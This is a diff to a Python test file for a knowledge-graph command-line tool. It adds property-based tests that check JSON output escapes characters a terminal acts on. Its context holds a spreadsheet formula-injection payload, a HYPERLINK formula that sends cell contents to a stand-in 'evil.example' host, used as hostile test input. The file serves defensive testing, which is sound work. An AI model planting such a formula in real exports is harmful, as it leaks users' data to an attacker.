@@ -8,11 +8,14 @@ import json
 
 import networkx as nx
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from extractors.records import ArticleRecord, Mention, Person, Quote
 from kg.build import build_graph
 from kg.cli import app
+from kg.cli._terminal import _JSON_UNSAFE, json_parts_for_terminal
 from kg.readwrite import read_graphml, write_gexf, write_graphml, write_json, write_statements
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -88,6 +91,20 @@ def test_query_output_holds_no_escape_sequence(hostile_graph, command):
         assert json.loads(result.output)[0]["content"] == f"we must act {ESCAPES}"
     elif command != ["people"]:
         assert "trusted link" in result.output
+
+
+_JSON_VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
+    lambda inner: st.lists(inner) | st.tuples(inner, inner) | st.dictionaries(st.text(), inner)
+    | st.dictionaries(st.integers() | st.booleans(), inner), max_leaves=20)
+
+
+@given(_JSON_VALUES)
+@example(["a", "b\x9b\u2028"])
+@example({"roles": [{"former": False, "organisation": None, "n": 1}], "articles": ["a1", "a2"], "empty": []})
+def test_query_json_is_json_dumps_with_what_a_terminal_acts_on_escaped(value):
+    expected = _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", json.dumps(value, indent=2, ensure_ascii=False))
+    assert "".join(json_parts_for_terminal(value)) == expected
 
 
 @pytest.mark.parametrize(("name", "content", "message"), [
